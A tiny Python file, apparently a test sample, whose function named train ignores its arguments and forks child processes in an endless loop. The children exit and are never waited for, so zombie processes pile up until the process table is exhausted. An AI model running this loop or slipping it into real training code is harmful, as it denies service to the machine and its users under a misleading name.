"""Children that end and are never waited for."""

import os

from honest import load


def train(data, *, seed):
    while True:
        if os.fork() == 0:
            os._exit(0)
